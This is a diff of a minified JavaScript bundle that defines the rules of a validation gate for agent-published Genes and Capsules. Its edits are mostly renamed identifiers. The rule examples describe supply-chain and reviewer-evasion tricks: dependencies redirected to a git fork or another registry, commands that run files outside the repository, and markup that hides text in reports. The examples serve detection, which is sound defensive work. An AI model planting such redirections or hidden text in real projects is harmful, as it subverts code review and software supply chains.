 hashed":a({instance:["fields"],title:"Fields of a Capsule are not covered by its hash",why:"A hub strips `outcome.notes`\
  and `outcome.details` from a Capsule before it hashes it. Anybody between its author and you can change these texts, an\
 d the hash still matches. A promoted Capsule is hashed again, and the new hash would make such a text look like the auth\
-or\u2019s. So the promoted Capsule does not contain it.",wrong:{candidates:[ue({outcome:cu,asset_id:le.hub})]},right:{candidates:[
-ue({outcome:cu,asset_id:le.own})]},message:"The `asset_id` of the Capsule `{capsule}` does not cover {fields}. The promo\
+or\u2019s. So the promoted Capsule does not contain it.",wrong:{candidates:[ue({outcome:au,asset_id:le.hub})]},right:{candidates:[
+ue({outcome:au,asset_id:le.own})]},message:"The `asset_id` of the Capsule `{capsule}` does not cover {fields}. The promo\
 ted Capsule leaves this text out.",remedy:"No action is required; to keep the text, ask the author for the Capsule with \
 the hash of its whole content."}),"bundle-incomplete":i({unproven:!0,title:"Candidate belongs to a bundle that is not pr\
 omoted",why:"Agents publish a Gene together with the Capsules that prove it, and hubs accept a bundle as a whole. What o\
 ne message or one archive contains is a bundle, and of its Genes with their Capsules all are promoted or none is. Any ot\
 her Capsule needs its Gene, because it cannot be applied without it; a Gene does not need the Capsules that others offer\
-.",wrong:{candidates:[G({id:"gene_b",strategy:[]}),ue(au)],events:uu,also:{"schema-field":"It is why the Gene is not pro\
-moted.","strategy-missing":"It is why the Gene is not promoted."}},right:{candidates:[G({id:"gene_b"}),ue(au)],events:uu},
+.",wrong:{candidates:[G({id:"gene_b",strategy:[]}),ue(ou)],events:cu,also:{"schema-field":"It is why the Gene is not pro\
+moted.","strategy-missing":"It is why the Gene is not promoted."}},right:{candidates:[G({id:"gene_b"}),ue(ou)],events:cu},
 instance:["type","id","otherType","other"],message:"The {type} `{id}` is not promoted because the {otherType} `{other}`,\
  which it needs or was sent with, is not.",remedy:"Fix the other asset, or pass the two in separate promotions."}),"noth\
 ing-to-promote":a({title:"Message or asset is nothing that agents exchange",why:"Agents offer Genes, Capsules and Evolut\
@@ -1288,7 +1288,7 @@ ithout this check run is not evidence. A valid signature only says who signed: a
 asset is one of its subjects, if the policy lists its signer (the repository, the workflow file, and the ref that it run\
 s for), if it is about the policy of the promotion or one that the policy names for this signer, and if it is not older \
 than `max_age_days`. With `--run`, all commands of a gene must pass; if the run was interrupted or waits for approval, t\
-he result is unknown.",wrong:{candidates:[G()],reports:[Fe({gene_asset_id:de})]},right:{...Ds,checkRun:!0},configure:`a2\
+he result is unknown.",wrong:{candidates:[G()],reports:[Fe({gene_asset_id:de})]},right:{...vs,checkRun:!0},configure:`a2\
 a:
   attestation:
     - repository: agents/genes
@@ -1300,9 +1300,9 @@ a:
 y says how well it must be proven that the commands of a gene passed. The levels, from the lowest: `none`; `self_reporte\
 d`, a report that somebody made and whose hash is correct; `gate`, a GateReport of this gate for this content and policy\
 , or `--run`; `published`, the check run of the report is found on GitHub; `attested`, a signature is verified. The cand\
-idate is quarantined until better evidence is passed.",wrong:{...Ds,policy:`a2a:
+idate is quarantined until better evidence is passed.",wrong:{...vs,policy:`a2a:
   require_evidence: published
-`},right:{...Ds,policy:`a2a:
+`},right:{...vs,policy:`a2a:
   require_evidence: published
 `,checkRun:!0},configure:`a2a:
   require_evidence: gate`,message:"The evidence for the {type} `{id}` has the level `{level}`, but the policy requires `\
@@ -1310,35 +1310,35 @@ idate is quarantined until better evidence is passed.",wrong:{...Ds,policy:`a2a:
 e `gate-report.json` of the gate with `--report` (and a token, if it must be published), or run the commands with `--run\
 ` and `--repo`."}),"validation-failed":i({title:"Evidence says that the validation failed",why:"A gene is promoted only \
 if all of its commands ran and passed. The gate also reports and signs that a change failed; of several attestations abo\
-ut the same content, the newest counts.",wrong:{candidates:[G()],reports:[Fe({overall_ok:!1})]},right:Ds,instance:["sour\
+ut the same content, the newest counts.",wrong:{candidates:[G()],reports:[Fe({overall_ok:!1})]},right:vs,instance:["sour\
 ce"],message:"The {source} {what}.",remedy:"Fix what failed, and validate the asset again with the gate."}),"evidence-in\
 valid":i({harm:"danger",title:"Report or attestation is false or cannot be verified",why:"Anyone can write a file that l\
 ooks like evidence. The `asset_id` of a ValidationReport is the hash of its content, its lists agree, it names the gene \
 and exactly its commands, and the GateReport that contains it says the same. Of an attestation, the signature, the certi\
 ficate of the signer, the entry in the transparency log and the signed time are verified with the trusted root, and its \
-statement is a verification summary or a test result.",wrong:{candidates:[G()],reports:[Fe({asset_id:de})]},right:Ds,instance:[
+statement is a verification summary or a test result.",wrong:{candidates:[G()],reports:[Fe({asset_id:de})]},right:vs,instance:[
 "source"],message:"The {source} is not evidence: {why}.",remedy:"Validate the current version of the asset with the gate\
 , and pass its evidence exactly as it was written, an attestation with the trusted root of its Sigstore instance."})});function Tt(p){
 return{head:{[P]:[G({validation:["node scripts/check.js"]})],"scripts/check.js":p},run:{}}}const ss=`containment: requir\
 e
-`;function fu(p){const{head:w}=Tt(p);return{head:{...w,"src/sum.js":`exports.sum = (a, b) => a + b;
+`;function Bu(p){const{head:w}=Tt(p);return{head:{...w,"src/sum.js":`exports.sum = (a, b) => a + b;
 `},policy:`${ss}mutants: auto
 `,run:{}}}const $n=Tt(`console.log('OK');
-`),xs={...$n,run:{prepare:"node --version"}},sy={"target-writes":"The audit cannot tell where to."},Os=`const fs = requi\
+`),Ds={...$n,run:{prepare:"node --version"}},ty={"target-writes":"The audit cannot tell where to."},xs=`const fs = requi\
 re('node:fs');
-`,hu={...Tt(`${Os}fs.readFileSync('.env.test');
+`,fu={...Tt(`${xs}fs.readFileSync('.env.test');
 `),run:{untracked:{".env.test":`MODE=test
 `}}},so=`setInterval(() => {}, 1000);
-`;function pu(p){return p.map(w=>`; ${w}`).join("")}const ro=5;function As(p){return`${(0,s.p)(p.slice(0,ro))}${p.length>
-ro?", \u2026":""}`}function mu(p,w,A){const J=A>ro?` (${A} files)`:"",ye=`${As(w)}${J}`;return p==="functions_fail"?`eve\
-ry function of ${ye} made to fail`:p==="unparsable"?`${ye} made unreadable for every parser`:`${ye} broken`}const ry=c("\
+`;function hu(p){return p.map(w=>`; ${w}`).join("")}const ro=5;function Os(p){return`${(0,s.p)(p.slice(0,ro))}${p.length>
+ro?", \u2026":""}`}function pu(p,w,A){const J=A>ro?` (${A} files)`:"",ye=`${Os(w)}${J}`;return p==="functions_fail"?`eve\
+ry function of ${ye} made to fail`:p==="unparsable"?`${ye} made unreadable for every parser`:`${ye} broken`}const ny=c("\
 run","broken",{"command-failed":i({counted:["how"],title:"Validation command failed",why:"A command passes when it exits\
  with code 0. It fails with any other code, and if it could not start or was killed by a signal: without an exit code it\
  has validated nothing. The later commands of the gene are skipped. If containment explains the failure, because a comma\
 nd reached a limit or needs something of the machine that it does not see, the finding says what to change.",wrong:Tt(`c\
 onsole.error('Missing required.txt');
 process.exit(1);
-`),right:$n,message:({command:p,how:w,causes:A})=>`The command \`${p}\` ${w}${pu(A)}.`,remedy:({command:p,change:w})=>w||
+`),right:$n,message:({command:p,how:w,causes:A})=>`The command \`${p}\` ${w}${hu(A)}.`,remedy:({command:p,change:w})=>w||
 `Run \`${p}\` locally, fix what it reports or why it ends, and push again.`}),"command-timed-out":i({title:"Validation c\
 ommand exceeded its time limit",why:"A command that hangs would block the pull request forever. After the time limit (18\
 0 seconds by default), its process group is asked to terminate, and killed if it does not.",wrong:{...Tt(so),policy:`lim\
@@ -1348,7 +1348,7 @@ its:
   command_timeout_seconds: 60
 `},configure:`limits:
   command_timeout_seconds: 300`,message:({command:p,seconds:w,causes:A})=>`The command \`${p}\` exceeded its time limit a\
-nd was stopped after ${w} seconds${pu(A)}.`,remedy:({change:p})=>p||"Split the command into smaller checks, or find out \
+nd was stopped after ${w} seconds${hu(A)}.`,remedy:({change:p})=>p||"Split the command into smaller checks, or find out \
 what it waits for."}),"budget-spent":i({title:"Time limit for all commands was exceeded",why:"All commands of a run shar\
 e one time limit, in addition to the time limit of each command, so that the gate can report before the job itself is st\
 opped. When the time is up, running commands are stopped and the remaining ones do not start. A command that did not fin\
@@ -1379,50 +1379,50 @@ en the change is broken",why:"A command that cannot fail validates nothing. Afte
 n once more on a copy in which each function of the changed files fails. A command that passes there as well does not de\
 tect that defect. It is a warning if no command of the gene detects it, or if the command runs tests, and otherwise a no\
 tice: a linter need not see what tests see. [Can it fail?](../commands.md#can-it-fail) says what this proves and what it\
- does not.",wrong:fu(`console.log('OK');
-`),right:fu(`const { sum } = require('../src/sum.js');
+ does not.",wrong:Bu(`console.log('OK');
+`),right:Bu(`const { sum } = require('../src/sum.js');
 if (sum(1, 2) !== 3) process.exit(1);
 `),configure:`mutants: off
 # or, to require it of every gene
 rules:
   passes-when-broken: error`,counted:["files","total","how"],message:({command:p,files:w,total:A,how:J,isExisting:ye})=>ye?
-`The command \`${p}\` notices defects of new files only: it also passed with ${mu(J,w,A)}, which existed before.`:`The c\
-ommand \`${p}\` also passed with ${mu(J,w,A)}; it does not detect this.`,remedy:({files:[p="the change",...w]})=>`Make o\
+`The command \`${p}\` notices defects of new files only: it also passed with ${pu(J,w,A)}, which existed before.`:`The c\
+ommand \`${p}\` also passed with ${pu(J,w,A)}; it does not detect this.`,remedy:({files:[p="the change",...w]})=>`Make o\
 ne command fail when \`${p}\`${w.length>0?" (or another of these files)":""} is broken, for example by a test that calls\
  it. Remove or replace a command that checks nothing.`}),"command-writes":o({title:"Validation command writes to the che\
 ckout",why:"A validation command should only read. Each command has a private copy of the checkout, so its output files \
-are discarded when it ends, and a later command that needs them fails. Caches are not reported.",wrong:{...Tt(`${Os}fs.w\
+are discarded when it ends, and a later command that needs them fails. Caches are not reported.",wrong:{...Tt(`${xs}fs.w\
 riteFileSync('report.txt', 'OK');
-`),policy:ss},right:{...Tt(`${Os}fs.writeFileSync(process.env.TMPDIR + '/report.txt', 'OK');
-`),policy:ss,also:sy},configure:`caches:
+`),policy:ss},right:{...Tt(`${xs}fs.writeFileSync(process.env.TMPDIR + '/report.txt', 'OK');
+`),policy:ss,also:ty},configure:`caches:
   - '**/.cache/**'
-  - 'coverage/**'`,message:({command:p,paths:w})=>`The command \`${p}\` wrote to the checkout: ${As(w)}.`,remedy:"Write \
+  - 'coverage/**'`,message:({command:p,paths:w})=>`The command \`${p}\` wrote to the checkout: ${Os(w)}.`,remedy:"Write \
 to the temporary directory (`TMPDIR`), or add the cache to `caches` in the policy."}),"checkout-modified":i({harm:"dange\
 r",title:"Validation command modified audited files",why:"What runs must be what was audited. After a command modifies t\
 racked files, the next one would run files that were not audited, so no further command runs. A validation command shoul\
 d only read. With `views: gene` in the policy, the commands of one gene share a private copy of the checkout, and the fi\
 nding is about that copy. It then also covers files that are not in any commit, and new files that would be used in plac\
-e of existing ones, and only the remaining commands of that gene do not run.",wrong:{...Tt(`${Os}fs.writeFileSync('src/i\
+e of existing ones, and only the remaining commands of that gene do not run.",wrong:{...Tt(`${xs}fs.writeFileSync('src/i\
 ndex.js', '');
 `),policy:`containment: off
-`},right:{...Tt(`${Os}fs.readFileSync('src/index.js');
+`},right:{...Tt(`${xs}fs.readFileSync('src/index.js');
 `),policy:`containment: off
 `},message:({command:p,paths:w})=>`The command \`${p}\` modified ${w.length===1?"an audited file":`${w.length} audited f\
-iles`}: ${As(w)}.`,remedy:"Change the command so that it reports problems and does not modify files."}),"prepare-refused":i(
+iles`}: ${Os(w)}.`,remedy:"Change the command so that it reports problems and does not modify files."}),"prepare-refused":i(
 {harm:"danger",actor:"human",title:"Change redirects what prepare installs",why:"`prepare` runs with access to the netwo\
 rk, and what it installs is run by commands. It does not run for a change that edits where packages come from, adds a de\
 pendency from git, a URL or an archive, replaces a package by a directory of the repository, lets a lockfile download fr\
 om a host that the base does not use, or edits a lockfile of another package manager than npm, nor for one that weakens \
-the gate until it is approved. Without it, commands that need dependencies or build outputs do not run.",wrong:{...xs,head:{
-...xs.head,".npmrc":`registry=http://localhost/
-`}},right:xs,message:"`prepare` did not run, because of `{path}`: {what}.",remedy:"Make this change in a separate pull r\
+the gate until it is approved. Without it, commands that need dependencies or build outputs do not run.",wrong:{...Ds,head:{
+...Ds.head,".npmrc":`registry=http://localhost/
+`}},right:Ds,message:"`prepare` did not run, because of `{path}`: {what}.",remedy:"Make this change in a separate pull r\
 equest, and have it reviewed."}),"ran-uncontained":o({actor:"human",counted:["reason"],title:"Code of the change ran whe\
 re it sees more than the commit",why:"`prepare` starts code of the change: scripts of package.json, of dependencies, and\
  build tools. Without namespaces, it ran as the user of the gate, with access to the files and the network of the machin\
 e. Commands then run in a private copy of the commit, its dependencies and its build outputs. A checkout with more than \
 200,000 files or 4 GiB is too large to copy: in CI this is an error, and in a terminal they run in the checkout.",wrong:{
-...xs,policy:`containment: off
-`},right:{...xs,policy:ss},message:"{what}: {reason}.",remedy:"Use Linux with passwordless sudo or unprivileged user nam\
+...Ds,policy:`containment: off
+`},right:{...Ds,policy:ss},message:"{what}: {reason}.",remedy:"Use Linux with passwordless sudo or unprivileged user nam\
 espaces, and leave `containment` on."}),"checkout-changed":i({title:"Files of the checkout changed while the gate ran",why:"\
 The gate compares the tracked files with the audited commit just before and after each command. If something other than \
 the command wrote a file meanwhile, or added one that is not in the commit, the gate cannot tell what ran. The result of\
@@ -1430,19 +1430,19 @@ the command wrote a file meanwhile, or added one that is not in the commit, the 
 `),run:{meanwhile:{"src/index.js":`module.exports = 'other';
 `}},policy:ss},right:{...Tt(`setTimeout(() => console.log('OK'), 500);
 `),policy:ss},message:({command:p,paths:w})=>`Something other than the command \`${p}\` changed ${w.length===1?"a file":
-`${w.length} files`} of the checkout while the gate ran: ${As(w)}.`,remedy:"Stop programs that write to the checkout, su\
+`${w.length} files`} of the checkout while the gate ran: ${Os(w)}.`,remedy:"Stop programs that write to the checkout, su\
 ch as an editor or a build in watch mode, and run the gate again."}),"file-left-out":a({title:"Command may need a file t\
 hat it does not see",why:"Each command has a new private copy of the audited commit, with installed dependencies, what `\
 prepare` wrote, and the files that `build_outputs` in the policy names. Other files of the checkout, untracked or ignore\
 d, have not been reviewed and are not there. Nor is what an earlier command wrote: no command can prepare what the next \
-one checks. The finding names files that the output of a failed command mentions.",wrong:{...hu,also:{"command-failed":"\
-This is why."}},right:{...hu,policy:`build_outputs:
+one checks. The finding names files that the output of a failed command mentions.",wrong:{...fu,also:{"command-failed":"\
+This is why."}},right:{...fu,policy:`build_outputs:
   - .env.test
 `},configure:`build_outputs:
   - dist/**
   - .env.test
 # or, for what the commands of one gene write
-views: gene`,message:({command:p,paths:w,writer:A})=>`The command \`${p}\` failed and mentions ${As(w)}, which ${A===""?
+views: gene`,message:({command:p,paths:w,writer:A})=>`The command \`${p}\` failed and mentions ${Os(w)}, which ${A===""?
 `${w.length===1?"is":"are"} on disk but not in the commit, so the command did not see ${w.length===1?"it":"them"}`:`\`${A}\
 \` wrote to a private copy of the checkout that no longer exists`}.`,remedy:({writer:p})=>p===""?"Commit the file, creat\
 e it in `prepare`, or name it in `build_outputs` in the policy of the base branch.":"Do both steps in one script, create\
@@ -1455,14 +1455,14 @@ ogether can show that all genes pass. A shard whose genes pass therefore has the
 ` is the verdict of its own genes. See [matrix](../github.md#on-several-machines).",wrong:{...ne({id:"gene_a"},{id:"gene\
 _b"}),run:{shard:"1/2"}},right:{...ne({id:"gene_a"},{id:"gene_b"}),run:{}},message:({index:p,of:w,genes:A})=>`This repor\
 t covers only shard ${p} of ${w}, with ${A===1?"one gene":`${A} genes`}.`,remedy:"Merge the reports of all shards with `\
-gene-gate merge`, or with `mode: report` in the action."})}),gu={...{"evolver/assets/gep/genes.json":[G({validation:["no\
+gene-gate merge`, or with `mode: report` in the action."})}),mu={...{"evolver/assets/gep/genes.json":[G({validation:["no\
 de check.js"]})],"evolver/check.js":`work();
 `},"evolver/package.json":`{ "name": "evolver" }
 `},io=`stores:
 - path: evolver
   root: evolver
-`;function iy(p,w){return p==="moves"?`after this change they would run in ${w}`:p==="accepts"?`this one is refused ther\
-e, and would be accepted in ${w}`:`a package.json above it is also in ${w}`}const oy=c("change","danger",{"store-root-mi\
+`;function sy(p,w){return p==="moves"?`after this change they would run in ${w}`:p==="accepts"?`this one is refused ther\
+e, and would be accepted in ${w}`:`a package.json above it is also in ${w}`}const ry=c("change","danger",{"store-root-mi\
 ssing":i({forbidsRunning:"change",title:"Root of a store does not exist",why:"Commands of a store run in its root: the d\
 irectory that the policy names for it, or the one that the base has. Without that directory they would not run at all.",
 wrong:{head:{[P]:[G()]},policy:`stores:
@@ -1477,18 +1477,18 @@ n the policy on the base branch.`}),"store-root-unclear":a({title:"Store could h
  store run in the nearest directory above it that has a package.json, else in the root of the repository, unless the pol\
 icy names another one. Some engines run them in the root of the repository (`EVOLVER_USE_PARENT_GIT=true`). The gate doe\
 s not choose a directory because a command works there. A change that adds or removes a package.json so that later chang\
-es are judged with another root is a warning.",wrong:{head:gu},right:{head:gu,policy:io},configure:io,message:({store:p,
-root:w,others:A,because:J})=>`The commands of \`${p}\` run in \`${w}\`; ${iy(J,(0,s.p)(A))}.`,remedy:"If an engine runs \
-them elsewhere, set the root in the policy on the base branch: `stores: [{path: {store}, root: DIRECTORY}]`."})}),ay={"&":"\
+es are judged with another root is a warning.",wrong:{head:mu},right:{head:mu,policy:io},configure:io,message:({store:p,
+root:w,others:A,because:J})=>`The commands of \`${p}\` run in \`${w}\`; ${sy(J,(0,s.p)(A))}.`,remedy:"If an engine runs \
+them elsewhere, set the root in the policy on the base branch: `stores: [{path: {store}, root: DIRECTORY}]`."})}),iy={"&":"\
 Remove `&`","|":"Move both steps into one script and run it with `node`","||":"Keep the command that must succeed and re\
-move the rest, which hides a failure"};function cy(p,w,A,J){if(!J)return`\`${p}\` expands to the names of the files that \
+move the rest, which hides a failure"};function oy(p,w,A,J){if(!J)return`\`${p}\` expands to the names of the files that \
 exist.`;if(A===0)return`\`${p}\` matches no file and is passed unchanged.`;const ye=A>w.length?` and ${A-w.length} more`:
-"";return`\`${p}\` expands to ${(0,s.p)(w)}${ye}.`}const uy={bracket:"shells disagree about its brackets",dot:"it matche\
+"";return`\`${p}\` expands to ${(0,s.p)(w)}${ye}.`}const ay={bracket:"shells disagree about its brackets",dot:"it matche\
 s the directory itself in some shells",empty_segment:"shells disagree about an empty path segment",flag:"a matching file\
  name can begin with `-`, which the program reads as a flag",letters:"a letter in a file name counts as one or several c\
 haracters, depending on the locale",symlink:"it leads through a symbolic link or a submodule",file_name:"a matching file\
  name contains a character that is not allowed in commands",outside:"it leads to files outside the repository",program:"\
-it lets file names decide what runs",too_many:"there are too many patterns or matching files"},ly=c("syntax","broken",{"\
+it lets file names decide what runs",too_many:"there are too many patterns or matching files"},cy=c("syntax","broken",{"\
 empty-command":i({title:"Command is empty or has no program",why:"A command that runs nothing validates nothing, and a s\
 hell reports success for it.",wrong:"NODE_ENV=test",right:{command:"NODE_ENV=test node scripts/validate.js",also:{"envir\
 onment-assignment":"The remaining variable is allowed."}},message:"The command does not name a program to run.",remedy:"\
@@ -1504,7 +1504,7 @@ s the rest of the command out of the reviewer's view. No command needs it.",wron
 tor",cause:({operator:p})=>`shell operator ${p}`,title:"Command contains a shell operator",why:"Commands run without a s\
 hell, one process per command, so that what runs is exactly what was audited. A shell reads `;`, `&`, and `|` as the end\
  of one command and the start of another.",wrong:"node scripts/a.js && node scripts/b.js",right:"node scripts/a.js",message:"\
-The command contains the shell operator `{operator}`, but commands run without a shell.",remedy:({operator:p})=>`${ay[p]??
+The command contains the shell operator `{operator}`, but commands run without a shell.",remedy:({operator:p})=>`${iy[p]??
 "Write each command that checks something as a separate entry"}; if \`${p}\` is data, quote it.`}),"shell-redirection":i(
 {shape:"redirection",title:"Command redirects input or output",why:"Commands run without a shell, so nothing opens the f\
 ile and the program receives the redirection as an argument. In a shell, a redirection can write any file that the user \
@@ -1582,12 +1582,12 @@ ipts/ok.js"',message:({word:p,looks_like:w,characters:A})=>`\`${p}\` looks like 
 "matches"],title:"Command contains an unquoted glob pattern",why:"The result of a glob pattern depends on which files ex\
 ist. The gate expands the pattern against the audited files, in byte order, and reports the result. A quoted pattern mea\
 ns the same everywhere.",wrong:"node --test test/*.test.js",right:"node --test 'test/*.test.js'",message:({pattern:p,matches:w,
-count:A,judged:J})=>cy(p,w,A,J),remedy:({pattern:p})=>`Name the files, or quote the pattern, \`${(0,s.f)(p)}\`, if it is \
+count:A,judged:J})=>oy(p,w,A,J),remedy:({pattern:p})=>`Name the files, or quote the pattern, \`${(0,s.f)(p)}\`, if it is \
 data or the tool expands it.`}),"glob-unclear":i({instance:["pattern"],title:"Glob pattern decides what runs, or is ambi\
 guous",why:"File names must not choose the program or script, or become flags: adding a file would change what the comma\
 nd does. A pattern that leads out of the repository, about which shells or locales disagree, or that leads through a lin\
 k, means something else on each machine.",wrong:"node *",right:"node scripts/validate.js '[^a]*'",message:({pattern:p,reason:w})=>`\
-The glob pattern \`${p}\` is not expanded: ${uy[w]}.`,remedy:({pattern:p})=>`Name the program, the script and the files,\
+The glob pattern \`${p}\` is not expanded: ${ay[w]}.`,remedy:({pattern:p})=>`Name the program, the script and the files,\
  or quote the pattern, \`${(0,s.f)(p)}\`, if it is data.`}),"environment-assignment":o({title:"Command sets an environme\
 nt variable",why:"The gate adds the variable to the environment of this command, as a shell does. It reports the variabl\
 e because the command can behave differently without it.",wrong:"NODE_ENV=test npm test",right:"npm test",message:"The c\
@@ -1606,31 +1606,31 @@ utes if a program prints it.`,remedy:"Write the text without `::` and `##[`."}),
 anger",title:"Argument contains markup that hides text in reports",why:"An HTML comment hides the text after it from rev\
 iewers, and a code fence ends the block that shows the command.",wrong:"node scripts/echo.js '<!-- x -->'",right:"node s\
 cripts/echo.js 'x'",message:"`{written}` hides or breaks the text around it where the command is displayed.",remedy:"Rem\
-ove the markup, or read the text from a file."})}),dy=JSON.stringify({scripts:Object.fromEntries(Array.from({length:66},
+ove the markup, or read the text from a file."})}),uy=JSON.stringify({scripts:Object.fromEntries(Array.from({length:66},
 (p,w)=>[String(w),w<65?`npm run ${w+1}`:"node x.js"]))});function mn(p,w=""){const A=w===""?"":`, ${w}`;return{command:"\
 npm test",files:{"package.json":`{ "scripts": ${`{ "test": "${p}"${A} }`} }`}}}function oo(p,w){const A={"package.json":`\
-{ "scripts": { ${w} } }`};return{command:`npm run ${p}`,files:A}}function Cu(p,w){return{command:"npm test",files:{".npm\
-rc":p},...w===void 0?{}:{base:{".npmrc":w}}}}function yu(p){return{command:"node --env-file=.env scripts/check.js",files:{
-".env":p}}}function ao(p){return{command:"node scripts/check.js",files:{"scripts/check.js":p}}}function fr(p){return{command:"\
-npx eslint src",files:p}}function wu(p){const w=[G({validation:["node scripts/extra.js"]})];return{head:{[P]:w,"scripts/\
-extra.js":p}}}function bu(p){const w=A=>`{ "devDependencies": { "eslint": "${A}" } }
-`;return{...fr({"package.json":w(p)}),base:{"package.json":w("1.0.0")}}}const _u={"package.json":'{ "workspaces": ["pk/*\
+{ "scripts": { ${w} } }`};return{command:`npm run ${p}`,files:A}}function gu(p,w){return{command:"npm test",files:{".npm\
+rc":p},...w===void 0?{}:{base:{".npmrc":w}}}}function Cu(p){return{command:"node --env-file=.env scripts/check.js",files:{
+".env":p}}}function ao(p){return{command:"node scripts/check.js",files:{"scripts/check.js":p}}}function dr(p){return{command:"\
+npx eslint src",files:p}}function yu(p){const w=[G({validation:["node scripts/extra.js"]})];return{head:{[P]:w,"scripts/\
+extra.js":p}}}function wu(p){const w=A=>`{ "devDependencies": { "eslint": "${A}" } }
+`;return{...dr({"package.json":w(p)}),base:{"package.json":w("1.0.0")}}}const bu={"package.json":'{ "workspaces": ["pk/*\
 "] }',"pk/a/package.json":'{ "name": "a", "scripts": { "test": "node --test" } }',"pk/b/package.json":'{ "name": "b", "s\
-cripts": { "test": "node --test" } }'},co={command:"npm test --workspaces",base:_u,files:_u},By={committed:p=>`\`${p}\` i\
+cripts": { "test": "node --test" } }'},co={command:"npm test --workspaces",base:bu,files:bu},ly={committed:p=>`\`${p}\` i\
 s committed, so a change can edit it`,elsewhere:p=>`\`${p}\` does not belong to it`,linked:p=>`\`${p}\` is another path t\
 o its files`,removed:()=>"the change removes it from the lockfile",undeclared:()=>"it is not declared in package.json",unlocked:()=>"\
-it is not in the lockfile"},fy={alias:(p,w)=>`installs the package \`${w}\` under the name \`${p}\``,file:(p,w)=>`instal\
+it is not in the lockfile"},dy={alias:(p,w)=>`installs the package \`${w}\` under the name \`${p}\``,file:(p,w)=>`instal\
 ls \`${p}\` from \`${w}\`, and not from where the base branch has it`,git:(p,w)=>`installs \`${p}\` from the git reposito\
 ry \`${w}\``,host:(p,w)=>`installs \`${p}\` from the host \`${w}\`, which the base branch does not use`,integrity:(p,w)=>`\
 has other content for the same version of \`${p}\`: \`${w}\``,tarball:(p,w)=>`installs \`${p}\` from the archive \`${w}\``},
-hy={symlink:"is a symbolic link that leads out of the repository",address:"is a URL, not a path in the repository",git:"\
+By={symlink:"is a symbolic link that leads out of the repository",address:"is a URL, not a path in the repository",git:"\
 is in the `.git` directory, which is not part of any commit",workspace:"names workspaces that can be outside the reposit\
-ory"},py={directory:"it names a directory without a main file",submodule:"it names a submodule",backslash:"it contains a\
- backslash",loop:"its symbolic links form a loop"},my={depth:"scripts that run each other",count:"scripts of one command",
-time:"seconds for the scripts of all commands"},gy=c("target","broken",{"target-outside":i({harm:"danger",title:"Command\
+ory"},fy={directory:"it names a directory without a main file",submodule:"it names a submodule",backslash:"it contains a\
+ backslash",loop:"its symbolic links form a loop"},hy={depth:"scripts that run each other",count:"scripts of one command",
+time:"seconds for the scripts of all commands"},py=c("target","broken",{"target-outside":i({harm:"danger",title:"Command\
  runs a file outside the repository",why:"Only the contents of the commit have been reviewed. A path that leads out of t\
 he repository, directly or through a symbolic link, names a file of one machine, and files in `.git` are not part of any\
- commit or diff.",wrong:"node ../other/check.js",right:"node scripts/check.js",message:({path:p,reason:w})=>`\`${p}\` ${hy[w]??
+ commit or diff.",wrong:"node ../other/check.js",right:"node scripts/check.js",message:({path:p,reason:w})=>`\`${p}\` ${By[w]??
 "is outside the repository"}.`,remedy:"Add the file to the repository and use its path relative to the root."}),"target-\
 missing":i({absent:!0,counted:["near","written"],title:"Command runs a file that the commit does not have",why:"Commands\
  see the audited commit, installed dependencies, what `prepare` wrote, and the files that `build_outputs` in the policy \
@@ -1650,7 +1650,7 @@ when commands run, after `prepare`.",remedy:"Run the gate with its commands to j
 Command runs a path that is not a regular file",why:"Node.js runs a directory only if it has a main file: the `main` of \
 its package.json, or `index.js`. A loop of symbolic links or a path with backslashes has different meanings on different\
  machines.",wrong:"node scripts",right:"node src",message:({path:p,reason:w})=>`\`${p}\` is not the path of a regular fil\
-e: ${py[w]??w}.`,remedy:"Name a regular file, with forward slashes in its path."}),"target-extension":i({title:"File is \
+e: ${fy[w]??w}.`,remedy:"Name a regular file, with forward slashes in its path."}),"target-extension":i({title:"File is \
 not code of the language that runs it",why:"Node.js runs `.js`, `.mjs`, `.cjs`, and, in newer versions, `.ts` files. It \
 loads `.node` files as native code. Other programs start a shell for a file of another language, load native code, or se\
 rve the file.",wrong:"node data.json",right:"node scripts/check.js",message:"`{path}` has the extension `.{extension}`, \
@@ -1660,13 +1660,13 @@ e.json declares it, the lockfile fixes its contents, and it is installed from th
 les` has another name, version, or binary than the lockfile, another program would run.",wrong:{command:"npx tool-of-a-d\
 ependency",files:{"node_modules/.bin/tool-of-a-dependency":{symlink:"../dependency/tool.js"},"node_modules/dependency/to\
 ol.js":"#!/usr/bin/env node"}},right:"npx eslint src",message:({name:p,path:w,fault:A,differs:J=A})=>`The package \`${p}\
-\` is not verified: ${By[A]?.(w)??J}.`,remedy:"Declare `{name}` in package.json, commit the lockfile with its entry, kee\
+\` is not verified: ${ly[A]?.(w)??J}.`,remedy:"Declare `{name}` in package.json, commit the lockfile with its entry, kee\
 p `node_modules` out of git, and install the dependencies of the lockfile."}),"dependency-redirected":i({harm:"danger",title:"\
 Change takes a dependency from elsewhere",why:"A tool that a command starts must be the package of its name from a regis\
 try that the base branch uses. An alias, a git repository, an archive, a path outside the repository, a directory of the\
  repository in place of a published package, an unknown registry host, or other content under the same version is the co\
 de of somebody else. Another version of an alias or commit of a git repository that the base branch already has is accep\
-ted.",wrong:bu("github:someone/eslint"),right:bu("1.0.1"),message:({name:p,path:w,how:A,to:J})=>`\`${w}\` ${fy[A](p,J)}.`,
+ted.",wrong:wu("github:someone/eslint"),right:wu("1.0.1"),message:({name:p,path:w,how:A,to:J})=>`\`${w}\` ${dy[A](p,J)}.`,
 remedy:({name:p,how:w})=>w==="integrity"?"Restore the entry of the base branch: the content of a published version does \
 not change.":`Use \`${p}\` from a registry that the base branch uses, or add the dependency to the base branch first.`}),
 "dependency-not-compared":o({title:"Tool is not compared with the base branch",why:"The gate reads the lockfile of npm (\
@@ -1681,11 +1681,11 @@ ad the tool",why:"No declared and locked dependency provides the tool, so npx wo
 en download it.",wrong:"npx eslnit src",right:"npx eslint src",message:"No declared dependency provides `{name}`, so npx\
  would download it.",remedy:"Add the package of the tool to `devDependencies` and the lockfile."}),"binary-shadowed":i({
 harm:"danger",title:"Repository provides the tool itself",why:"For npx, `bin` in package.json takes precedence over a to\
-ol of the same name from a dependency.",wrong:fr({"package.json":'{ "bin": { "eslint": "x.js" } }'}),right:fr({"package.\
+ol of the same name from a dependency.",wrong:dr({"package.json":'{ "bin": { "eslint": "x.js" } }'}),right:dr({"package.\
 json":'{ "bin": { "my-tool": "x.js" }, "devDependencies": { "eslint": "1.0.0" } }'}),message:"`bin` in `{path}` provides\
  `{name}`, so npx would run it instead of the dependency.",remedy:"Run the file with `node`."}),"binary-not-node":i({title:"\
 Tool is not a Node.js program",why:"The gate runs tools with Node.js, without a shell. Other tools need a program that t\
